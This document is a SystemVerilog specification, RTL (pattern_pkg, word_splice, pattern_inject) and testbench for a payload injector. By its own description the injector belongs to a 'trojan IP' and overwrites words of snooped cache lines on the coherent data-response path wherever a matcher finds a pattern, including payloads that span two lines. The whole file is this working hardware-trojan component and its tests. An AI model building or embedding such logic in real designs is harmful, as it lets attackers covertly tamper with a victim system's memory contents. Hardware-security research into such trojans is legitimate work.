pattern_inject: RTL and testbench
=================================

// Module: pattern_inject
// PURPOSE
//  Write-side companion to the cache-line pattern matcher: splices a payload of 1..16 words into
//  a stream of snooped cache lines at the position the matcher reported.
//  Full match: payload overwrites words [0..size-1]. Partial match at offset k: payload fills
//  words [k..15], and the words left over are carried into the start of the next accepted line.
//  Sits between the matcher result and the coherent data-response path of the trojan IP.
// PARAMETERS
//  CL_SIZE   64   cache line size in bytes; WORDS = CL_SIZE/4 = 16 32-bit words
//  CNT_W     16   width of the saturating injection counter
// PORTS
//  i_aclk           in   1          clock; one clock domain only
//  i_aresetn        in   1          asynchronous active-low reset
//  i_payload        in   CL_SIZE*8  replacement words; word j = bits [32j+31:32j]
//  i_payload_size   in   5          payload length in words (1..16)
//  i_cache_line     in   CL_SIZE*8  incoming line
//  i_line_valid     in   1          incoming line valid
//  o_line_ready     out  1          block can accept a line
//  i_full_match     in   1          matcher: aligned match (qualifies the line)
//  i_partial_match  in   1          matcher: match starting at i_match_offset
//  i_match_offset   in   4          matcher: word offset of the partial match
//  i_abort          in   1          drop any pending carry
//  o_cache_line     out  CL_SIZE*8  outgoing (possibly modified) line
//  o_line_valid     out  1          outgoing line valid
//  i_out_ready      in   1          downstream accepts the outgoing line
//  o_carry_pending  out  1          high while in state CARRY
//  o_inject_done    out  1          1-cycle pulse when an injection completes
//  o_inject_count   out  CNT_W      completed injections, saturating
// BEHAVIOUR
//  Reset: every output is 0, except o_line_ready, which is 1 after reset. State is IDLE.
//  Accept: a line is accepted when i_line_valid && o_line_ready.
//   o_line_ready = !o_line_valid || i_out_ready.
//  Output register: one stage. o_cache_line and o_line_valid are registered 1 cycle after accept.
//   o_cache_line is held stable while o_line_valid && !i_out_ready.
//  Payload size: size 0 means no injection (pass through). Sizes above 16 clamp to 16.
//  i_payload and i_payload_size are captured into registers at the IDLE accept only.
//  FSM IDLE (line accepted):
//   - i_full_match (wins if both match flags are set): replace words [0..size-1]; pulse done.
//   - i_partial_match with offset k: avail = 16-k. Replace words [k..k+min(size,avail)-1].
//     - If size > avail: resid = size-avail, base = avail, go to CARRY.
//     - Otherwise: pulse done.
//   - No match flag: pass the line through unchanged.
//  FSM CARRY (line accepted):
//   - Replace words [0..resid-1] with captured payload[base..base+resid-1].
//   - Match inputs are ignored. Pulse done. Go to IDLE.
//  i_abort in CARRY: go to IDLE, no done pulse, residual discarded.
//   Abort in the same cycle as an accept: abort wins and that line passes through unmodified.
//   Abort in IDLE: no effect.
//  o_inject_done is asserted in the same cycle that o_line_valid rises for the completing line.
//  o_inject_count increments on each done pulse and saturates at 2^CNT_W-1.
//  Words that are not replaced are forwarded bit-exact.
//  Reset mid-operation clears CARRY and any pending output line; the pending line is not replayed.
// STRUCTURE
//  Shared package pattern_pkg:
//   - WORD_W=32 and CL_WORDS constants.
//   - State typedef {IDLE, CARRY}.
//   - Function word_mask(lo, cnt) returning the 16-bit mask used by both matcher and injector.
//  One sub-module, word_splice (combinational):
//   - Inputs: line, payload, dst_off, src_base, count.
//   - Output: spliced line, dst word i = payload word (src_base + i - dst_off) for i in
//     [dst_off, dst_off+count).
// TESTING
//  1 Full: size=4, full_match=1, line words=0xA5A5_0000+i
//     -> words 0..3 = payload, 4..15 unchanged, done pulse, count=1.
//  2 Partial, fits: offset=12, size=3 -> words 12..14 replaced, word 15 unchanged,
//     no carry, done pulse.
//  3 Partial, spans: offset=14, size=5
//     -> line 1 words 14..15 = payload 0..1, carry_pending=1;
//        line 2 words 0..2 = payload 2..4, done pulse, carry cleared.
//  4 Abort: scenario 3 with i_abort asserted together with the second accept
//     -> line 2 passes unmodified, no done pulse, count unchanged.
//  5 Backpressure: i_out_ready=0 for 5 cycles with line valid
//     -> o_line_ready=0, o_cache_line stable, no line lost or duplicated.
//  6 Async reset in CARRY -> all outputs 0 immediately; next partial-match line is processed
//     from IDLE; size=0 and no-match lines pass through unchanged.

Source files
------------

// File: rtl/pattern_pkg.sv
// pattern_pkg
//   Shared definitions for the cache-line pattern matcher and its write-side
//   injector. It provides:
//   - the word and line geometry
//   - the injector state encoding
//   - word_mask(), which turns a (first word, word count) pair into a
//     per-word select mask
package pattern_pkg;

  localparam int WORD_W   = 32;
  localparam int CL_WORDS = 16;

  typedef enum logic {
    IDLE,
    CARRY
  } state_t;

  // Bit i is set when lo <= i < lo+cnt. The sum is taken in 6 bits so that a
  // run reaching past the last word simply clips at word 15.
  function automatic logic [CL_WORDS-1:0] word_mask(input logic [4:0] lo,
                                                    input logic [4:0] cnt);
    logic [CL_WORDS-1:0] m;
    logic [5:0]          hi;
    hi = {1'b0, lo} + {1'b0, cnt};
    for (int i = 0; i < CL_WORDS; i++) begin
      m[i] = (6'(i) >= {1'b0, lo}) && (6'(i) < hi);
    end
    return m;
  endfunction

endpackage

// File: rtl/word_splice.sv
// word_splice
//   Combinational word splicer.
//   Destination word i, for i in [dst_off, dst_off+count), is taken from
//   payload word (src_base + i - dst_off). Every other word of the line is
//   forwarded untouched.
// Ports
//   line     in   incoming cache line
//   payload  in   replacement words
//   dst_off  in   first destination word
//   src_base in   payload word that lands on dst_off
//   count    in   number of words to replace (0 = pass through)
//   spliced  out  resulting line
module word_splice
  import pattern_pkg::*;
(
  input  logic [CL_WORDS*WORD_W-1:0] line,
  input  logic [CL_WORDS*WORD_W-1:0] payload,
  input  logic [3:0]                 dst_off,
  input  logic [4:0]                 src_base,
  input  logic [4:0]                 count,
  output logic [CL_WORDS*WORD_W-1:0] spliced
);

  logic [CL_WORDS-1:0] mask;
  logic [3:0]          src;

  // The source index wraps modulo 16. Callers never ask for a source word
  // past 15, so the truncation is harmless.
  always_comb begin
    mask    = word_mask({1'b0, dst_off}, count);
    spliced = line;
    src     = '0;
    for (int i = 0; i < CL_WORDS; i++) begin
      if (mask[i]) begin
        src = 4'(src_base + 5'(i) - {1'b0, dst_off});
        spliced[i*WORD_W +: WORD_W] = payload[src*WORD_W +: WORD_W];
      end
    end
  end

endmodule

// File: rtl/pattern_inject.sv
// pattern_inject
//   Splices a payload of 1..16 words into a stream of snooped cache lines, at
//   the position reported by the matcher.
//   - Full match: the payload overwrites words [0..size-1].
//   - Partial match at offset k: the payload fills words [k..15]. Any words
//     left over are carried into the start of the next accepted line.
//   There is one registered output stage, with a valid/ready handshake on
//   both sides.
// Ports
//   i_aclk, i_aresetn   clock, asynchronous active-low reset
//   i_payload           replacement words (word j = bits [32j+31:32j])
//   i_payload_size      payload length in words; 0 = none, >16 clamps to 16
//   i_cache_line        incoming line
//   i_line_valid        incoming line valid
//   o_line_ready        incoming line can be accepted
//   i_full_match        matcher: aligned match
//   i_partial_match     matcher: match starting at i_match_offset
//   i_match_offset      matcher: word offset of the partial match
//   i_abort             drop a pending carry
//   o_cache_line        outgoing line
//   o_line_valid        outgoing line valid
//   i_out_ready         downstream accepts the outgoing line
//   o_carry_pending     residual words wait for the next line
//   o_inject_done       one-cycle pulse alongside the completing line
//   o_inject_count      completed injections, saturating
module pattern_inject
  import pattern_pkg::*;
#(
  parameter int CL_SIZE = 64,
  parameter int CNT_W   = 16
) (
  input  logic                 i_aclk,
  input  logic                 i_aresetn,
  input  logic [CL_SIZE*8-1:0] i_payload,
  input  logic [4:0]           i_payload_size,
  input  logic [CL_SIZE*8-1:0] i_cache_line,
  input  logic                 i_line_valid,
  output logic                 o_line_ready,
  input  logic                 i_full_match,
  input  logic                 i_partial_match,
  input  logic [3:0]           i_match_offset,
  input  logic                 i_abort,
  output logic [CL_SIZE*8-1:0] o_cache_line,
  output logic                 o_line_valid,
  input  logic                 i_out_ready,
  output logic                 o_carry_pending,
  output logic                 o_inject_done,
  output logic [CNT_W-1:0]     o_inject_count
);

  localparam int LINE_W = CL_SIZE * 8;

  state_t            state, nxt_state;
  logic [LINE_W-1:0] pay_q;
  logic [4:0]        resid_q, base_q, nxt_resid, nxt_base;
  logic [4:0]        size_eff, avail, fit;
  logic              accept, done_now;
  logic [LINE_W-1:0] sp_payload, spliced;
  logic [3:0]        sp_dst;
  logic [4:0]        sp_base, sp_count;

  assign o_line_ready = !o_line_valid || i_out_ready;
  assign accept       = i_line_valid && o_line_ready;

  // Decide how the accepted line gets spliced and where the FSM goes next.
  // In IDLE the live payload inputs are used directly, because this is the
  // cycle in which they get captured. In CARRY the captured copy is used.
  // An abort in CARRY leaves sp_count at 0, so a line accepted in the same
  // cycle passes through untouched.
  always_comb begin
    size_eff   = (i_payload_size > 5'd16) ? 5'd16 : i_payload_size;
    avail      = 5'd16 - {1'b0, i_match_offset};
    fit        = (size_eff < avail) ? size_eff : avail;
    sp_payload = i_payload;
    sp_dst     = '0;
    sp_base    = '0;
    sp_count   = '0;
    nxt_state  = state;
    nxt_resid  = resid_q;
    nxt_base   = base_q;
    done_now   = 1'b0;
    case (state)
      IDLE: begin
        if (accept) begin
          if (i_full_match) begin
            sp_count = size_eff;
            done_now = (size_eff != 5'd0);
          end else if (i_partial_match) begin
            sp_dst   = i_match_offset;
            sp_count = fit;
            if (size_eff > avail) begin
              nxt_resid = size_eff - avail;
              nxt_base  = avail;
              nxt_state = CARRY;
            end else begin
              done_now = (size_eff != 5'd0);
            end
          end
        end
      end
      CARRY: begin
        if (i_abort) begin
          nxt_state = IDLE;
        end else if (accept) begin
          sp_payload = pay_q;
          sp_base    = base_q;
          sp_count   = resid_q;
          done_now   = 1'b1;
          nxt_state  = IDLE;
        end
      end
      default: nxt_state = IDLE;
    endcase
  end

  word_splice u_splice (
    .line     (i_cache_line),
    .payload  (sp_payload),
    .dst_off  (sp_dst),
    .src_base (sp_base),
    .count    (sp_count),
    .spliced  (spliced)
  );

  // State, captured payload and all registered outputs.
  // o_inject_done is registered alongside the output line, so the pulse lines
  // up with o_line_valid for the line that completed the injection.
  always_ff @(posedge i_aclk or negedge i_aresetn) begin
    if (!i_aresetn) begin
      state           <= IDLE;
      pay_q           <= '0;
      resid_q         <= '0;
      base_q          <= '0;
      o_cache_line    <= '0;
      o_line_valid    <= 1'b0;
      o_carry_pending <= 1'b0;
      o_inject_done   <= 1'b0;
      o_inject_count  <= '0;
    end else begin
      state           <= nxt_state;
      resid_q         <= nxt_resid;
      base_q          <= nxt_base;
      o_carry_pending <= (nxt_state == CARRY);
      o_inject_done   <= done_now;
      if (state == IDLE && accept) begin
        pay_q <= i_payload;
      end
      if (accept) begin
        o_cache_line <= spliced;
        o_line_valid <= 1'b1;
      end else if (i_out_ready) begin
        o_line_valid <= 1'b0;
      end
      if (done_now && (o_inject_count != '1)) begin
        o_inject_count <= o_inject_count + CNT_W'(1);
      end
    end
  end

endmodule

// File: tb/tb_pattern_inject.sv
// tb_pattern_inject
//   Directed testbench for pattern_inject. Expected lines are built by hand
//   from a base line, with the replaced words patched in explicitly.
module tb_pattern_inject;

  localparam int LW = 512;

  logic           clk = 1'b0;
  logic           rst_n;
  logic [LW-1:0]  payload;
  logic [4:0]     size;
  logic [LW-1:0]  line_in;
  logic           line_valid;
  logic           line_ready;
  logic           full;
  logic           partial;
  logic [3:0]     off;
  logic           abort;
  logic [LW-1:0]  line_out;
  logic           out_valid;
  logic           out_ready;
  logic           carry;
  logic           done;
  logic [15:0]    count;

  int checks     = 0;
  int failures   = 0;
  int handshakes = 0;

  logic [LW-1:0] la, lb, pa, exp_line;
  int            h0;

  always #5 clk = ~clk;

  pattern_inject #(.CL_SIZE(64), .CNT_W(16)) dut (
    .i_aclk          (clk),
    .i_aresetn       (rst_n),
    .i_payload       (payload),
    .i_payload_size  (size),
    .i_cache_line    (line_in),
    .i_line_valid    (line_valid),
    .o_line_ready    (line_ready),
    .i_full_match    (full),
    .i_partial_match (partial),
    .i_match_offset  (off),
    .i_abort         (abort),
    .o_cache_line    (line_out),
    .o_line_valid    (out_valid),
    .i_out_ready     (out_ready),
    .o_carry_pending (carry),
    .o_inject_done   (done),
    .o_inject_count  (count)
  );

  // Count output handshakes to catch lost or duplicated lines.
  always @(posedge clk) begin
    if (rst_n && out_valid && out_ready) handshakes++;
  end

  // Hard time limit so the run always ends.
  initial begin
    #200000;
    $display("[TB] FAIL watchdog: got timeout, expected completion");
    $fatal(1, "[TB] watchdog expired");
  end

  task automatic checkOutput(input string tag, input logic [LW-1:0] actual,
                             input logic [LW-1:0] expected);
    checks++;
    if (actual !== expected) begin
      failures++;
      $display("[TB] FAIL %s: got %0h, expected %0h", tag, actual, expected);
    end
  endtask

  function automatic logic [LW-1:0] makeLine(input logic [31:0] base);
    logic [LW-1:0] l;
    for (int i = 0; i < 16; i++) l[i*32 +: 32] = base + 32'(i);
    return l;
  endfunction

  function automatic logic [LW-1:0] putWord(input logic [LW-1:0] l, input int idx,
                                            input logic [31:0] v);
    logic [LW-1:0] r;
    r = l;
    r[idx*32 +: 32] = v;
    return r;
  endfunction

  // Present one line for a single cycle. The DUT is always ready here,
  // because out_ready stays high outside the backpressure test.
  task automatic applyStimulus(input logic [LW-1:0] l, input logic [4:0] sz,
                               input logic fm, input logic pm,
                               input logic [3:0] k, input logic ab);
    line_in = l; size = sz; full = fm; partial = pm; off = k; abort = ab;
    line_valid = 1'b1;
    @(posedge clk); #1;
    line_valid = 1'b0; full = 1'b0; partial = 1'b0; abort = 1'b0;
  endtask

  initial begin
    la = makeLine(32'hA5A5_0000);
    lb = makeLine(32'h5A5A_0000);
    pa = makeLine(32'hC0DE_0000);
    rst_n = 1'b0; payload = pa; size = '0; line_in = '0; line_valid = 1'b0;
    full = 1'b0; partial = 1'b0; off = '0; abort = 1'b0; out_ready = 1'b1;

    // Reset state
    repeat (2) @(posedge clk);
    #1;
    checkOutput("rst_ready", line_ready, 1);
    checkOutput("rst_valid", out_valid, 0);
    checkOutput("rst_line", line_out, 0);
    checkOutput("rst_carry", carry, 0);
    checkOutput("rst_done", done, 0);
    checkOutput("rst_count", count, 0);
    @(negedge clk) rst_n = 1'b1;
    @(posedge clk); #1;

    // 1: full match, size 4
    applyStimulus(la, 5'd4, 1'b1, 1'b0, 4'd0, 1'b0);
    exp_line = la;
    for (int j = 0; j < 4; j++) exp_line = putWord(exp_line, j, 32'hC0DE_0000 + 32'(j));
    checkOutput("t1_valid", out_valid, 1);
    checkOutput("t1_line", line_out, exp_line);
    checkOutput("t1_done", done, 1);
    checkOutput("t1_count", count, 1);
    checkOutput("t1_carry", carry, 0);
    @(posedge clk); #1;
    checkOutput("t1_done_clr", done, 0);
    checkOutput("t1_valid_clr", out_valid, 0);

    // 2: partial at 12, size 3 fits; abort in IDLE has no effect
    applyStimulus(la, 5'd3, 1'b0, 1'b1, 4'd12, 1'b1);
    exp_line = putWord(putWord(putWord(la, 12, 32'hC0DE_0000), 13, 32'hC0DE_0001), 14, 32'hC0DE_0002);
    checkOutput("t2_line", line_out, exp_line);
    checkOutput("t2_done", done, 1);
    checkOutput("t2_carry", carry, 0);
    checkOutput("t2_count", count, 2);

    // 3: partial at 14, size 5 spans two lines; the second line's match
    //    flags and the live payload must be ignored
    applyStimulus(la, 5'd5, 1'b0, 1'b1, 4'd14, 1'b0);
    exp_line = putWord(putWord(la, 14, 32'hC0DE_0000), 15, 32'hC0DE_0001);
    checkOutput("t3_line1", line_out, exp_line);
    checkOutput("t3_done1", done, 0);
    checkOutput("t3_carry1", carry, 1);
    checkOutput("t3_count1", count, 2);
    payload = '0;
    applyStimulus(lb, 5'd1, 1'b1, 1'b1, 4'd3, 1'b0);
    payload = pa;
    exp_line = putWord(putWord(putWord(lb, 0, 32'hC0DE_0002), 1, 32'hC0DE_0003), 2, 32'hC0DE_0004);
    checkOutput("t3_line2", line_out, exp_line);
    checkOutput("t3_done2", done, 1);
    checkOutput("t3_carry2", carry, 0);
    checkOutput("t3_count2", count, 3);

    // 4: abort together with the second accept
    applyStimulus(la, 5'd5, 1'b0, 1'b1, 4'd14, 1'b0);
    checkOutput("t4_carry1", carry, 1);
    applyStimulus(lb, 5'd5, 1'b1, 1'b0, 4'd0, 1'b1);
    checkOutput("t4_line2", line_out, lb);
    checkOutput("t4_done", done, 0);
    checkOutput("t4_carry2", carry, 0);
    checkOutput("t4_count", count, 3);

    // Size above 16 clamps to a whole-line replacement
    applyStimulus(lb, 5'd20, 1'b1, 1'b0, 4'd0, 1'b0);
    checkOutput("clamp_line", line_out, pa);
    checkOutput("clamp_count", count, 4);
    @(posedge clk); #1;

    // 5: backpressure for 5 cycles
    h0 = handshakes;
    out_ready = 1'b0;
    line_in = la; size = '0; line_valid = 1'b1;
    @(posedge clk); #1;
    line_in = lb;
    for (int i = 0; i < 5; i++) begin
      checkOutput("t5_ready", line_ready, 0);
      checkOutput("t5_valid", out_valid, 1);
      checkOutput("t5_line", line_out, la);
      @(posedge clk); #1;
    end
    out_ready = 1'b1;
    @(posedge clk); #1;
    line_valid = 1'b0;
    checkOutput("t5_line_b", line_out, lb);
    checkOutput("t5_valid_b", out_valid, 1);
    @(posedge clk); #1;
    checkOutput("t5_valid_end", out_valid, 0);
    checkOutput("t5_handshakes", 32'(handshakes - h0), 2);

    // 6: asynchronous reset while in CARRY with a line pending
    applyStimulus(la, 5'd5, 1'b0, 1'b1, 4'd14, 1'b0);
    checkOutput("t6_carry_pre", carry, 1);
    #2 rst_n = 1'b0;
    #1;
    checkOutput("t6_valid", out_valid, 0);
    checkOutput("t6_line", line_out, 0);
    checkOutput("t6_carry", carry, 0);
    checkOutput("t6_done", done, 0);
    checkOutput("t6_count", count, 0);
    checkOutput("t6_ready", line_ready, 1);
    @(negedge clk) rst_n = 1'b1;
    @(posedge clk); #1;
    applyStimulus(lb, 5'd5, 1'b0, 1'b1, 4'd14, 1'b0);
    exp_line = putWord(putWord(lb, 14, 32'hC0DE_0000), 15, 32'hC0DE_0001);
    checkOutput("t6_idle_line", line_out, exp_line);
    checkOutput("t6_idle_carry", carry, 1);
    abort = 1'b1;
    @(posedge clk); #1;
    abort = 1'b0;
    checkOutput("t6_abort_carry", carry, 0);
    applyStimulus(la, 5'd0, 1'b1, 1'b0, 4'd0, 1'b0);
    checkOutput("t6_size0_line", line_out, la);
    checkOutput("t6_size0_done", done, 0);
    applyStimulus(lb, 5'd7, 1'b0, 1'b0, 4'd5, 1'b0);
    checkOutput("t6_nomatch_line", line_out, lb);
    checkOutput("t6_nomatch_done", done, 0);
    checkOutput("t6_count_end", count, 0);

    $display("End of test - %0d assertions evaluated, %0d failures", checks, failures);
    $finish;
  end

endmodule
